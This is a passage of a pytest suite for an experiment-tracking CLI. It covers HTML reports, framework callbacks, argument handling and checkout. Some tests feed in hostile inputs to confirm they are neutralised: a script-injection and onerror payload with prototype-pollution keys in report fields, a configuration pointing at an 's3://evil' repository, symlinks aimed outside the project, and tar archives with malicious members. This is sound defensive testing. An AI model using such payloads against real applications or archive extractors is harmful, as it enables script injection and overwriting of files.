    assert labels[1][:3] == ["0", "0.2", "0.4"] and labels[2][:2] == ["-4e-7", "-3e-7"]
    assert {"adam", "stochasti…", "1e13"} <= set(report.locator("#parallel svg text").all_text_contents())


@pytest.mark.parametrize("scheme", ["dark", "light"])
def test_a_report_of_a_hostile_repository_is_text(project, page, scheme):
    mark = "</script><script>window.hacked=1</script><img src=x onerror=window.hacked=1>'\"&\u202e\x1b[31m\u2028\ud800"
    write_repository(project / "repo", *[experiment_document(
        item, name=mark, user=mark, command=mark, tags=[mark], note=mark, code=mark, git={"commit": mark}, params={
            mark: mark, "p": [mark], "n": "[NaN]", "__proto__": "x", "constructor": number, "nested": {mark: {mark: 1}}}, checkpoints=[
            checkpoint_document(hex_id("%xc" % number), primary=(mark, "minimize"), metrics={
                mark: number, "__proto__": number, ("toString", "valueOf")[number]: 1})])
        for number, item in enumerate((A, B))])
    report = page(color_scheme=scheme)
    assert report.evaluate("window.hacked") is None and report.locator("img").count() == 0 and report.locator("script").count() == 2
    assert report.locator("tbody tr").count() == 2 and "</script><script>" in report.inner_text("#facts")
    assert "\u202e" not in report.content() and "\\u202e" in report.inner_text("#facts")
    back = report.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (back == "rgb(255, 255, 255)") == (scheme == "light")


def report_data(path):
    """What a report tells its script."""
    return json.loads(Path(path).read_text().partition('id="data">')[2].partition("</script>")[0])


def test_a_report_of_many_runs_is_small_keeps_extremes_and_runs_its_own_script_alone(project, call):
    for number in range(20):
        items = [checkpoint_document("%064x" % (number * 10000 + step), step=step, metrics={
            "loss": 99.5 if step == 1234 else 0.123456789, "other": step / 7}) for step in range(3000)]
        write_repository(project / "repo", experiment_document(hex_id("%02xe" % number), checkpoints=items))
    assert call("report", "-o", "small.html")[0] == 0
    text = Path("small.html").read_text()
    data = report_data("small.html")
    assert len(text) < 3 << 19 and len(data["runs"]) == 20 and len(data["steps"]) == 1
    for each in data["runs"]:
        values, steps = each["curves"]["loss"], data["steps"][each["steps"]]
        assert max(values) == 99.5 and len(values) == len(each["seconds"]) == len(steps) <= 4010
        assert steps[values.index(99.5)] == 1234
    policy = re.search('Content-Security-Policy" content="(.*?)"', text).group(1)
    for tag in ("style", "script"):
        content = text.rpartition("<%s>" % tag)[2].partition("</%s>" % tag)[0]
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert "%s-src 'sha256-%s'" % (tag, digest) in policy
    assert policy.startswith("default-src 'none';") and not re.search(r"https?://(?!www\.w3\.org/2000/svg)", text)
    assert "innerHTML" not in text and "eval(" not in text


def test_reports_are_of_chosen_experiments_and_replace_only_reports(place, project, call, says):
    for number in range(3):
        (project / "train.py").write_text("print(%d)\n" % number)
        replicate.init(path="train.py", params={"n": number}, quiet=True).stop()
    first, second, third = replicate.experiments.list()

    def reported(*arguments):
        code, out, err = call("report", *arguments)
        assert code == 0, err
        data = report_data("report.html")
        place_of_n = [column["name"] for column in data["columns"]].index("n")
        assert data["texts"] == ["print(%d)\n" % each["values"][place_of_n] for each in data["runs"]]
        return [each["id"] for each in data["runs"]]

    def is_code():
        return "report.html" in [source.name for source in replicate.find_sources(str(project), ".")]

    assert reported() == [first.id, second.id, third.id] and reported("-f", "n > 0") == [second.id, third.id]
    assert reported(second.id) == [second.id] and not is_code()
    for arguments in (["-f", "n > 9"], ["abc"], ["-o", "missing/x.html"]):
        assert call("report", *arguments)[0] == 1
    (project / "report.html").write_text("mine")
    assert "is not a report" in says("report", code=1) and (project / "report.html").read_text() == "mine" and is_code()
    assert call("report", "-o", "report.html")[0] == 0
    code, out, err = call("report", "-o", "-")
    assert (code, err) == (0, "") and out.startswith("<!DOCTYPE html>") and out.endswith("</html>\n") and not (project / "-").exists()
    (project / "link.html").symlink_to("linked.html")  # as /dev/stdout is one
    assert call("report", "-o", "link.html")[0] == 0
    assert (project / "link.html").is_symlink() and (project / "linked.html").read_text().endswith("</html>\n")
    assert not list(project.glob("*.html.*"))


@pytest.mark.parametrize("values, count, kept", [
    ([1, 2, 3], 5, {0, 1, 2}), ([0, 9, 0, 0, -9, 0, 0, 0], 2, {0, 1, 4, 7}), ([None] * 9, 2, {0, 8}),
    ([0, None, 0, 0, 5, 0, 0, 0, 0, 1], 4, {0, 4, 5, 9}), ([0] * 4 + [None, "gap"] * 2 + [0] * 4, 6, {5})])
def test_long_curves_keep_their_ends_and_extremes(values, count, kept):
    assert replicate.thinned(values, count) >= kept and len(replicate.thinned(values, count)) <= count + 2


# -- callbacks: each test needs its framework, which .ci/run installs where it can

@pytest.fixture
def keras(monkeypatch):
    monkeypatch.setenv("KERAS_BACKEND", "torch")
    return pytest.importorskip("keras", reason="keras is not installed")


KERAS = """
import numpy, replicate, keras
x = numpy.random.rand(64, 4)
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(1)])
model.compile("adam", "mse", metrics=["mae"])
model.fit(x, x.sum(1), batch_size=16, epochs=4, verbose=0, validation_split=0.25, callbacks=[replicate.keras_callback(%s)])
"""


@pytest.mark.parametrize("arguments, steps, path, name", [
    ("params={'units': 3}, path=None, keep_best=1, name='k'", [0, 1, 2, 3], "model.keras", "val_loss"),
    ("'w.weights.h5', {'units': 3}, ('mae', 'minimize'), 2, True, path=None", [2, 4, 6, 8, 10, 12], "w.weights.h5", "mae"),
    ("None, path=None", [0, 1, 2, 3], None, "val_loss"), ("'model.nonsense', path=None", [0, 1, 2, 3], None, "val_loss")])
def test_keras_records_a_fit(project, keras, arguments, steps, path, name):
    done = run_script(KERAS % arguments)
    (document,) = stored_documents(project / "repo")
    assert document["outcome"]["status"] == "completed" and document["params"]["epochs"] == 4
    assert document["params"]["optimizer"]["name"] == "adam" and document["params"]["optimizer"]["learning_rate"] == 0.001
    assert None not in document["params"]["optimizer"].values()
    assert [item["step"] for item in document["checkpoints"]] == steps
    assert {item["primary_metric"]["name"] for item in document["checkpoints"]} == {name}
    assert {"loss", "mae"} <= document["checkpoints"][0]["metrics"].keys()
    assert document["checkpoints"][-1]["path"] == path and ("could not be saved" in done.stderr) == ("nonsense" in arguments)
    if "keep_best" in arguments:
        assert document["params"]["units"] == 3 and document["name"] == "k"
        assert [item["path"] for item in document["checkpoints"]].count(path) <= 2
        (project / "again.keras").write_bytes(replicate.experiments.list()[0].latest().open(path).read())
        assert keras.models.load_model(str(project / "again.keras")).count_params() == 19


def test_keras_records_process_0_alone_and_a_fit_that_fails_has_failed(project, keras):
    run_script(KERAS % "path=None", env={"RANK": "1", "WORLD_SIZE": "2"})
    assert not (project / "repo").exists() and not (project / "model.keras").exists()
    done = run_script(KERAS % "path=None), keras.callbacks.LambdaCallback(on_epoch_end=lambda epoch, logs: 1 / 0", check=False)
    (document,) = stored_documents(project / "repo")
    assert done.returncode == 1 and document["outcome"]["error"] == "ZeroDivisionError: division by zero"


@pytest.mark.parametrize("arguments, validation, fails, steps, name, status", [
    ("path=None, params={'lr': 0.2}", "data", False, [0, 1, 2, 3], "val_loss", "completed"),
    ("'m.pth', None, ('train_loss', 'minimize'), 2, True, path=None", "None", False, [1, 3], "train_loss", "completed"),
    ("None, period=0", "data", False, [], "val_loss", "completed"), ("None, path=None", "data", True, [0], "val_loss", "failed")])
def test_lightning_records_a_fit(project, arguments, validation, fails, steps, name, status):
    pytest.importorskip("lightning", reason="lightning is not installed")
    run_script("""
        import torch, replicate, lightning.pytorch as L
        class Model(L.LightningModule):
            def __init__(self, width=4, lr=0.1):
                super().__init__()
                self.save_hyperparameters()
                self.net = torch.nn.Linear(width, 1)
            def training_step(self, batch, index):
                loss = ((self.net(batch[0]) - batch[1]) ** 2).mean()
                self.log("train_loss", loss, on_epoch=True, on_step=False)
                return loss
            def validation_step(self, batch, index):
                if %(fails)r and self.current_epoch == 1: raise ValueError("bad batch")
                self.log("val_loss", ((self.net(batch[0]) - batch[1]) ** 2).mean())
            def configure_optimizers(self):
                return torch.optim.SGD(self.parameters(), lr=self.hparams.lr)
        data = torch.utils.data.DataLoader(torch.utils.data.TensorDataset(torch.rand(32, 4), torch.rand(32, 1)), batch_size=8)
        L.Trainer(max_epochs=4, logger=False, enable_checkpointing=False, enable_progress_bar=False,
                  callbacks=[replicate.lightning_callback(%(arguments)s)]).fit(Model(), data, %(validation)s)
        """ % {"arguments": arguments, "validation": validation, "fails": fails}, check=not fails)
    (document,) = stored_documents(project / "repo")
    assert document["outcome"]["status"] == status and document["params"]["width"] == 4 and document["params"]["max_epochs"] == 4
    assert document["params"]["lr"] == (0.2 if "0.2" in arguments else 0.1)
    assert [item["step"] for item in document["checkpoints"]] == steps
    for item in document["checkpoints"]:
        assert item["primary_metric"]["name"] == name and name in item["metrics"]
        assert item["path"] == (None if arguments.startswith("None") else "m.pth" if "m.pth" in arguments else "model.ckpt")
    if document["checkpoints"] and not fails:
        import torch
        saved = torch.load(replicate.experiments.list()[0].latest().open(item["path"]), weights_only=False)
        assert "net.weight" in saved["state_dict"] and ("optimizer_states" in saved) == ("m.pth" not in arguments)


@pytest.mark.parametrize("settings, name, goal", [
    ({}, "loss", "minimize"),
    ({"eval_strategy": "epoch", "metric_for_best_model": "runtime", "greater_is_better": True}, "eval_runtime", "maximize")])
def test_transformers_records_a_training(project, settings, name, goal):
    pytest.importorskip("transformers", reason="transformers is not installed")
    pytest.importorskip("torch", reason="torch is not installed")
    run_script("""
        import torch, replicate, transformers
        class Model(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.net = torch.nn.Linear(4, 1)
            def forward(self, x=None, labels=None):
                out = self.net(x)
                return {"loss": ((out - labels) ** 2).mean(), "logits": out}
        data = [{"x": torch.rand(4), "labels": torch.rand(1)} for _ in range(32)]
        arguments = transformers.TrainingArguments("out", num_train_epochs=3, per_device_train_batch_size=8, logging_steps=2,
            report_to=[], save_strategy="epoch", disable_tqdm=True, use_cpu=True, **%(settings)r)
        transformers.Trainer(Model(), arguments, train_dataset=data, eval_dataset=data,
                             callbacks=[replicate.transformers_callback(path=None, params={"mine": 1}, keep_best=1)]).train()
        """ % {"settings": settings})
    (document,) = stored_documents(project / "repo")
    assert document["outcome"]["status"] == "completed" and document["params"]["mine"] == 1
    assert document["params"]["learning_rate"] == 5e-05 and not [key for key in document["params"] if key.endswith(("_dir", "_token"))]
    assert {(item["primary_metric"]["name"], item["primary_metric"]["goal"]) for item in document["checkpoints"]} == {(name, goal)}
    saved = [item for item in document["checkpoints"] if item["path"] or item.get("pruned")]
    assert [item["step"] for item in saved] == [4, 8, 12] and saved[-1]["path"] == "out/checkpoint-12"
    assert 1 <= len([item for item in saved if item["path"]]) <= 2 and name in saved[-1]["metrics"]
    assert any("train_runtime" in item["metrics"] for item in document["checkpoints"])
    experiment = replicate.experiments.list()[0]
    assert experiment.checkpoints[[item["id"] for item in document["checkpoints"]].index(saved[-1]["id"])].open(
        "out/checkpoint-12/model.safetensors").read(8)


@pytest.mark.parametrize("package, use", [("keras", "keras_callback()"), ("lightning", "lightning_callback()"), (
    "transformers", "transformers_callback()"), ("matplotlib", "CheckpointList().plot('loss')")])
def test_without_their_package_callbacks_and_plots_say_what_to_install(project, package, use):
    done = run_script("import sys, replicate\nsys.modules.update(dict.fromkeys(['keras', 'lightning', 'pytorch_lightning', "
                      "'transformers', 'matplotlib']))\nreplicate.%s" % use, check=False)
    assert done.returncode == 1 and "replicate.ReplicateError: " in done.stderr and "pip install %s" % package in done.stderr


def test_a_notebook_shows_tables(project):
    nbformat, nbclient, _ = map(pytest.importorskip, ("nbformat", "nbclient", "ipykernel"))
    cells = ["import replicate\nfor lr in (0.1, 0.2):\n"
             "    with replicate.init(params={'lr': lr, 'same': 1, 'net': {'<b>': lr}}, quiet=True) as experiment:\n"
             "        for step in range(4):\n"
             "            experiment.checkpoint(metrics={'loss': step * lr}, primary_metric=('loss', 'maximize'), quiet=True)",
             "replicate.experiments.list()", "experiment", "experiment.checkpoints"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    nbclient.NotebookClient(notebook, timeout=60, kernel_name="python3", resources={"metadata": {"path": str(project)}}).execute()
    listed, one, checkpoints = [cell["outputs"][0]["data"]["text/html"] for cell in notebook["cells"][1:]]
    assert re.findall("<th>(.*?)</th>", listed) == ["ID", "STARTED", "STATUS", "lr", "net.&lt;b&gt;", "loss ", "~loss"]
    assert listed.count("<tr>") == 3 and "▁▃▆█" in listed and "0.6*" in listed and "0.3 " in listed
    assert "same" in one and "▁▃▆█" in one and one.count("<table>") == 3 and checkpoints.count("<tr>") == 5


REFUSED = [(arguments.split(), 2, []) for arguments in (
    "ls -q --json", "ls -q --all", "ps -q --json", "ls --jso", "ls --verb", "--verb ls", "ls extra", "show", "show a b",
    "diff", "diff a b c --code", "diff a b --path x", "diff a --code --json", "tag", "tag a x", "rm", "checkout",
    "checkout a b", "nonsense", "ls --nonsense", "ls --color=maybe", "analytics maybe", "ls --filter", "help nonsense",
    "--repository", "ls --sort", "show -q a", "checkout --forc a")]
REFUSED += [(["tag", "a", "name=\n", "+"], 2, []), (["ls", "--columns", ""], 2, ["--columns"])]
REFUSED += [(arguments.split(), 2, [words]) for arguments, words in {
    "ls --wide --json": "--wide", "ls --csv --json": "--csv", "ls -q --csv": "-q", "ls -q --columns id": "-q", "ls -n 0": "-n",
    "ls -n x": "-n", "ls --columns id,,lr": "--columns", "run": "after --", "run train.sh": "after --", "run --": "after --",
    "run x.py --lr 1": "after --",
    "run --param x -- true": "name=value", "checkpoint --metric =1": "name=value", "checkpoint --step -1": "--step",
    "checkpoint --primary loss": "loss:minimize", "plot --watch": "terminal",
    "plot -n 0": "expected 1, 2, 3, ..., not '0'"}.items()]
REFUSED += [(typed.split(), 2, ["Did you mean '%s'?" % meant]) for typed, meant in {
    "lss": "ls", "shwo": "show", "chekout": "checkout", "dif": "diff", "lists": "list", "ls --fliter x": "--filter",
    "--vrebose ls": "--verbose"}.items()]
REFUSED += [(arguments.split(), 1, [words]) for arguments, words in {
    "run -- no-such-program": "no program no-such-program", "run -- ./plain": "no program ./plain",
    "run -- ./replicate.yaml": "not executable", "run --path missing -- true": "does not exist", "rerun abc": "not found",
    "checkpoint": "REPLICATE_EXPERIMENT is not set", "plot -m los": "Did you mean 'loss'", "plot abc": "not found",
    "plot -x nonsense": "no metric 'nonsense'", "plot -m text": "has no values", "plot -m zero --log": "above 0",
    "demo repo": "repo", "checkout 1e -o out": "Nothing to check out: experiment ", "rm -f 1e ffff": "ffff",
    "checkout 2e -o out": "Nothing to check out: experiment ", "checkout 1c -o out": "Nothing to check out: experiment ",
    "rm -f 2e 1": "1cccccc"}.items()]
REFUSED += [(["rm", "-f", A, ""], 1, ["empty"])]
REFUSED += [(["ls", "-f", text], 1, ["<name> <operator> <value>"]) for text in ("", "foo >> bar", "foo", "= 1", "foo =", "  ")]
REFUSED += [(["ls", "-f", "duration > 1h"], 1, ["'1h' is not a number of seconds"])]
REFUSED += [(["ls", "-f", "status = Stoped"], 1, [
    "character 10: there is no status 'Stoped'. Did you mean 'stopped'? Choose from running, stopped, completed"])]
REFUSED += [(["--complete", *words, ""], 2, ["See '", " --help'"]) for words in (["-R"], ["ls", "-D"], ["--color=bogus"])]


@pytest.mark.parametrize("arguments, code, words", REFUSED, ids=[" ".join(case[0]) for case in REFUSED])
def test_wrong_usage_is_refused_in_one_message_and_changes_nothing(project, says, arguments, code, words):
    two_experiments(project, **measured({"loss": 1, "text": "x", "zero": 0}, ("loss", "minimize")))
    before = snapshot(project)
    err = says(*arguments, code=code)
    message, = [line for line in messages_of(err) if "Checking out" not in line]
    assert all(word in err for word in words), message
    assert snapshot(project) == before
    assert run(*arguments).returncode == code


@pytest.mark.parametrize("flags, wanted, warnings", [
    ("-f|lr > 0.15", [B], []), ("--filter|lr >= 0.1|--filter|name = adam", [A], []), ("--filter=name != adam", [B], []),
    ("-s|lr-desc", [B, A], []), ("--sort=started-desc", [B, A], []), ("-s|lr-asc", [A, B], []), ("--sort|lr", [A, B], []),
    ("-f|name = adam|--sort|step", [A], []), ("-f|naem = adam", [], ["'naem'", "'name'"]),
    ("--sort|lrr", [A, B], ["'lrr'", "'lr'"]), ("-f|status in [stopped, lost]", [A, B], [])])
def test_filters_and_sorting_which_warn_of_an_unknown_name(call, a_and_b, flags, wanted, warnings):
    code, out, err = call("ls", "-q", *flags.split("|"))
    assert (code, out.split()) == (0, wanted)
    assert bool(err) == bool(warnings) and all(word in err for word in warnings)


def test_help_and_version(call):
    listing = "--all -f --filter --json -q --quiet -s --sort"
    own = {"ls": listing, "ps": listing, "checkout": "-f --force -o --output-directory --path", "rm": "-f --force",
           "show": "--json"}
    code, out, err = call("--help")
    assert (code, err) == (0, "") and call("-h")[1] == call("help")[1] == call()[1] == out
    assert max(map(len, out.split("\n"))) <= 80
    fields = call("help", "ls")[1].partition("these fields: ")[2].partition(".")[0].replace("\n", " ").split(", ")
    assert fields == [name for name in [*replicate.FIELDS, *replicate.LABELS] if name != "created"]
    assert all(words in call("help", "ls")[1] for words in (
        "until the latest checkpoint", "duration in seconds", "started as 2026-01-31, ", "* marks the best value"))
    for name in ("analytics", "checkout", "demo", "diff", "feedback", "help", "ls", "ps", "rm", "show"):
        assert re.search(r"(?m)^  %s " % name, out)
        code, text, err = call("help", name)
        assert (code, err) == (0, "") and "replicate %s " % name in text and len(text.split("\n")) > 10
        assert "\n(" not in text  # Python 3.13 takes the indentation out of docstrings
        for option in (own.get(name, "") + " -h --help -R --repository --color -D --project-directory -v --verbose").split():
            assert re.search(r"(?<![\w-])%s(?![\w-])" % option, text), (name, option)
        if name != "help":
            assert call(name, "--help") == call(name, "-h") == call("--help", name) == (0, text, "")
    for arguments in (["rm", "-f", "--help", "abc"], ["help", "list"], ["help", "processes"], ["help", "delete"]):
        assert call(*arguments)[0] == 0
    version = "replicate %s\n" % replicate.__version__
    assert call("--version") == (0, version, "") and run("--version").stdout == run("-v", "--version").stdout == version


def test_global_flags_before_and_after_the_command(project, call, tmp_path, monkeypatch, a_and_b):
    url, both = "file://%s" % (project / "repo"), (0, A + "\n" + B + "\n", "")
    for flags in (["--color"], ["--color=false"], ["--no-color"]):  # a bare one does not swallow the next word
        assert call(*flags, "ls", "-q") == call("ls", *flags, "-q") == call("ls", "-q", *flags) == both, flags
    assert call("show", "--color", A)[0] == 0
    monkeypatch.chdir(tmp_path)
    for flags in (["-R", url], ["--repository", url], ["--repository=" + url], ["-D", project], ["--project-directory=%s" % project]):
        for arguments in ([*flags, "ls", "-q"], ["ls", *flags, "-q"], ["ls", "-q", *flags]):
            assert call(*arguments) == both, arguments
    assert call("-D", tmp_path / "nowhere", "ls", "-D", project, "-q") == both
    assert call("show", "-v", "zz")[2].count("Traceback") == call("-v", "show", "zz")[2].count("Traceback") == 1
    assert "Traceback" not in call("show", "zz")[2]  # -v does not last


def test_options_between_arguments_and_two_dashes(project, call):
    for arguments in (["rm", "-f", A, B], ["rm", A, "-f", B], ["rm", A, B, "-f"], ["-v", "rm", A, "-f", "-v", B],
                      ["rm", "-f", "--", A, B], ["delete", "-f", A, B], ["rm", "-f", B, C, A, A]):
        two_experiments(project, checkpoints=[checkpoint_document(C)])
        assert call(*arguments)[0] == 0, arguments
        assert stored_documents(project / "repo") == []
    two_experiments(project)
    for arguments in (["--", "ls", "-q"], ["-v", "--", "ls", "-q"], ["ls", "-q", "--"]):
        assert call(*arguments) == (0, A + "\n" + B + "\n", "")
    assert call("--", "show", A)[0] == call("diff", A, "--no-color", B)[0] == 0


def test_rm_asks_on_a_terminal(project):
    two_experiments(project, running=[B], checkpoints=[checkpoint_document(C)])
    before = tree(project)
    for answer in ("n\n", "\n", "maybe\n", "\x04"):
        terminal = Terminal("rm", A, B).expect("(y/N)").send(answer)
        assert terminal.wait() == 1, terminal.output
        assert tree(project) == before
    assert "1eeeeee" in terminal.output and "1 checkpoint" in terminal.output
    assert re.search("2eeeeee.*running", terminal.output) and not re.search("1eeeeee.*running", terminal.output)
    terminal = Terminal("rm", A).expect("(y/N)").interrupt()
    assert terminal.wait() == 130 and "Traceback" not in terminal.output and tree(project) == before
    done = run("rm", A, input="y\n")  # without a terminal
    assert (done.returncode, done.stdout) == (1, "") and "-f" in done.stderr and tree(project) == before
    assert Terminal("rm", A).expect("(y/N)").send("y\n").wait() == 0
    assert [document["id"] for document in stored_documents(project / "repo")] == [B]
    assert Terminal("rm", B, "-f").wait() == 0
    assert stored_documents(project / "repo") == []


def test_push_from_a_relative_path_means_the_working_directory(project, says, monkeypatch, a_and_b):
    (project / "sub").mkdir()
    (project / "repo").rename(project / "sub/other")
    monkeypatch.chdir(project / "sub")
    assert "Copied 1 experiment and 0 checkpoints" in says("push", "--from", "file://other", "2e")
    assert [document["id"] for document in stored_documents(project / "repo")] == [B]


def recorded(project):
    """An experiment with code and two checkpoints; returns (experiment, first, second checkpoint) IDs."""
    fill(project, {"train.py": b"code\n", "data/in.txt": b"data of the experiment\n", "model/weights": b""})
    with replicate.init(path=".", params={"lr": 1}, quiet=True) as experiment:
        for step in range(2):
            fill(project, {"model/weights": b"weights %d" % step, "data/in.txt": b"data of checkpoint %d" % step})
            experiment.checkpoint(path=".", metrics={"loss": step}, primary_metric=("loss", "minimize"), quiet=True)
    return (experiment.id, *(item.id for item in experiment.checkpoints))


def archived(project, code=None, model=None, **fields):
    """Experiment A, and its checkpoint C if it has a model; each {name: content}; without any the archive is gone."""
    checkpoints = [] if model is None else [checkpoint_document(C, path="model", step=7)]
    write_repository(project / "repo", experiment_document(A, **{"path": ".", "checkpoints": checkpoints, **fields}))
    for kind, item, files in (("experiments", A, code), ("checkpoints", C, model)):
        if files:
            write_archive(project / "repo" / kind / (item + ".tar.gz"), item, files)


def test_checkout_puts_the_checkpoint_over_the_experiment(project, says):
    archived(project, {"train.py": b"code", "model/a": b"old", "sub/dir/x": b"x"}, {"model/a": b"new", "model/b": b"b"},
             command="train.py --lr 1")
    assert "train.py --lr 1" in says("checkout", C, "-o", "out")
    assert tree(project / "out") == {"train.py": b"code", "model/a": b"new", "model/b": b"b", "sub/dir/x": b"x"}
    assert "Checking out the latest checkpoint of 1eeeeee: 1cccccc (step 7)\n" in says("checkout", A, "-o", "two")
    assert tree(project / "two") == tree(project / "out")
    for path in ("train.py", "model/a"):  # the first is only in the experiment, the second in both
        says("checkout", C, "-o", path + ".out", "--path", path)
        assert tree(project / (path + ".out")) == {path: tree(project / "out")[path]}


def test_checkout_and_open_of_a_checkpoint_without_files_say_which_has_some(project, says):
    experiment, _ = recorded_pair(project)
    first, second = experiment.checkpoints
    hint = "Checkpoint %s saved no files; the latest one that did is %s (step 0)." % (second.short_id(), first.short_id())
    assert hint in says("checkout", experiment.id, "-o", "out") and set(tree(project / "out")) == {"code.py"}
    with pytest.raises(replicate.DoesNotExist, match=re.escape(hint)):
        second.open("model")
    assert hint[:9] not in says("checkout", first.id, "-o", "out") and set(tree(project / "out")) == {"code.py", "model"}


def test_checkout_of_an_experiment_takes_the_best_checkpoint_and_of_one_path_only_that(project, says):
    (project / "run.sh").write_text("#!/bin/sh\n")
    (project / "run.sh").chmod(0o755)
    experiment, best, _ = recorded(project)
    fill(project, {"out/mine": b"mine"})
    err = says("checkout", experiment, "-o", "out")
    assert "Checking out the best checkpoint of %s: %s (step 0)\n" % (experiment[:7], best[:7]) in err
    files = tree(project / "out")
    assert files.pop("mine") == b"mine" and files == {
        "train.py": b"code\n", "model/weights": b"weights 0", "data/in.txt": b"data of checkpoint 0", "run.sh": b"#!/bin/sh\n",
        "replicate.yaml": b"repository: file://repo\n"}
    assert os.access(project / "out/run.sh", os.X_OK) and not os.access(project / "out/train.py", os.X_OK)
    for number, (path, names) in enumerate({
            "model/weights": ["model/weights"], "data": ["data/in.txt"], "data/": ["data/in.txt"], "./data": ["data/in.txt"],
            ".": files}.items()):
        says("checkout", best, "-o", "out%d" % number, "--path", path)
        assert tree(project / ("out%d" % number)) == {name: files[name] for name in names}
    err = says("checkout", best, "-o", "new", "--path", "model/weihgts", code=1)
    assert "model/weihgts in checkpoint %s or experiment %s. Did you mean 'model/weights'?" % (best[:7], experiment[:7]) in err
    says("checkout", best, "-o", "new", "--path", "mod", code=1)
    assert not (project / "new").exists()


def test_checkout_goes_into_the_project_directory_also_from_a_subdirectory(project):
    _, _, last = recorded(project)
    (project / "train.py").unlink()
    (project / "deep/er").mkdir(parents=True)
    done = run("checkout", last, cwd=project / "deep/er")
    assert done.returncode == 0, done.stderr
    assert (project / "train.py").read_text() == "code\n" and snapshot(project / "deep") == {"er": "directory"}
    (project / "train.py").unlink()
    assert run("checkout", last, "-o", ".", cwd=project / "deep/er").returncode == 0
    assert (project / "deep/er/train.py").exists() and not (project / "train.py").exists()


def test_checkout_of_a_path_needs_only_the_archives_that_hold_it(project, says):
    archived(project, {}, {"model/weights": b"new"})
    says("checkout", C, "-o", "one", "--path", "model/weights")
    err = says("checkout", C, "-o", "two", "--path", "model")
    assert "1eeeeee are gone" in err and "Only the checkpoint's own files" in err
    assert tree(project / "one") == tree(project / "two") == {"model/weights": b"new"}
    for arguments in (["--path", "train.py"], []):
        assert "1eeeeee are gone" in says("checkout", C, "-o", "three", *arguments, code=1)
        assert not (project / "three").exists()
    checkpoint = replicate.experiments.list()[0].checkpoints[0]
    assert checkpoint.open("model/weights").read() == b"new"
    with pytest.raises(replicate.DoesNotExist, match="gone"):
        checkpoint.open("train.py")


@pytest.mark.parametrize("what", ["fifo", "socket"])
def test_checkout_asks_before_it_replaces_what_is_no_file(project, says, what):
    """And does not wait for it."""
    _, first, _ = recorded(project)
    for name in ("train.py", "replicate.yaml"):
        (project / name).unlink()
    os.mkfifo("train.py") if what == "fifo" else socket.socket(socket.AF_UNIX).bind("train.py")
    (project / "out").mkdir()
    os.mkfifo("out/replicate.yaml")
    err = says("-R", "file://repo", "checkout", first, code=1)
    assert "train.py" in err and "would overwrite" in err
    says("-R", "file://repo", "checkout", first, "-f")
    assert (project / "train.py").read_text() == "code\n"
    assert "replicate.yaml is left as it is" in says("-R", "file://repo", "checkout", first, "-f", "-o", "out")
    assert (project / "out/train.py").read_text() == "code\n"


@pytest.mark.parametrize("name, config, reason", [
    ("replicate.yaml", b"repository: s3://evil\n", "another repository"),
    ("keepsake.yaml", b"repository: s3://evil\n", "another repository"),
    ("replicate.yaml", b"repository: file://repo\n" + b"#" * (2 << 20), "the saved one cannot be read")],
    ids=["of another one", "of another name", "too large"])
def test_checkout_leaves_the_configuration_in_use_alone(project, says, call, tmp_path, monkeypatch, name, config, reason):
    archived(project, {"replicate.yaml": config, "sub/replicate.yaml": config, "train.py": b"code"})
    (project / "replicate.yaml").rename(project / name)
    real, asked = replicate.read_up_to, []
    monkeypatch.setattr(replicate, "read_up_to", lambda stream, size: asked.append(size) or real(stream, size))
    err = says("checkout", A, "-f")
    assert "replicate.yaml is left as it is: " in err and reason in err and max(asked) == (1 << 20) + 1
    assert (project / name).read_text() == "repository: file://repo\n" and (project / "train.py").exists()
    assert call("ls", "-q") == (0, A + "\n", "")
    says("checkout", A, "-o", tmp_path / "fresh")
    assert (tmp_path / "fresh/train.py").exists()


def test_checkout_leaves_the_repository_alone(project, says, call):
    """The peer saves its repository as code where that is in the project directory."""
    document = "repo/metadata/experiments/%s.json" % A
    archived(project, {document: b"{}", "train.py": b"code"}, {"model": b"weights"})
    before = snapshot(project / "repo")
    assert "repo is left as it is: it is the repository" in says("checkout", A, "-f")
    assert snapshot(project / "repo") == before and (project / "train.py").exists() and (project / "model").exists()
    says("checkout", A, "-o", "out")
    says("checkout", A, "-o", "repo/new")
    assert tree(project / "out") == tree(project / "repo/new") and (project / "out" / document).read_text() == "{}"
    assert "train.py cannot be written: it is not a directory." in says("checkout", A, "-o", "train.py", code=1)


def test_checkout_asks_before_it_overwrites(project):
    _, first, last = recorded(project)
    assert run("checkout", last).returncode == 0  # the same files
    (project / "train.py").write_text("changed\n")
    (project / "model/weights").write_text("weights 0")
    before = snapshot(project)
    done = run("checkout", first, input="y\n")
    assert done.returncode == 1 and "-f" in done.stderr and snapshot(project) == before
    assert "train.py" in done.stderr and "data/in.txt" in done.stderr and "model/weights" not in done.stderr
    terminal = Terminal("checkout", first).expect("(y/N)").send("n\n")
    assert terminal.wait() == 1 and "train.py" in terminal.output and snapshot(project) == before
    terminal = Terminal("checkout", first).expect("(y/N)").interrupt()
    assert terminal.wait() == 130 and snapshot(project) == before
    assert Terminal("checkout", first).expect("(y/N)").send("yes\n").wait() == 0
    assert (project / "train.py").read_text() == "code\n"


def test_checkout_never_writes_through_a_link(project, says, tmp_path):
    archived(project, {"dir/file": b"new", "plain": b"new"})
    outside = tmp_path / "outside"
    fill(outside, {"file": b"precious"})
    (project / "out").mkdir()
    (project / "out/dir").symlink_to(outside)
    before = snapshot(project / "out")
    assert "link" in says("checkout", A, "-f", "-o", "out", code=1)
    assert tree(outside) == {"file": b"precious"} and snapshot(project / "out") == before
    (project / "out/dir").unlink()
    (project / "out/plain").symlink_to(outside / "file")
    says("checkout", A, "-o", "out", code=1)
    says("checkout", A, "-f", "-o", "out")
    assert tree(outside) == {"file": b"precious"} and not (project / "out/plain").is_symlink()


def test_a_file_and_a_directory_in_each_others_way(project, says):
    archived(project, {"a": b"new", "x/y": b"new"})
    fill(project, {"one/a/x": b"below", "two/x": b"file"})
    for target in ("one", "two", "replicate.yaml"):
        before = snapshot(project)
        says("checkout", A, "-f", "-o", target, code=1)
        assert snapshot(project) == before


def with_member(name, content=b"", kind=tarfile.REGTYPE, target=""):
    """What replaces an archive: one with a good file and this member; %s in its name is the ID."""
    return lambda data, item: gzip.compress(tar_block(item + "/good", b"evil") + tar_block(
        name.replace("%s", item), content, kind, link=target) + bytes(1024))


DAMAGE = {
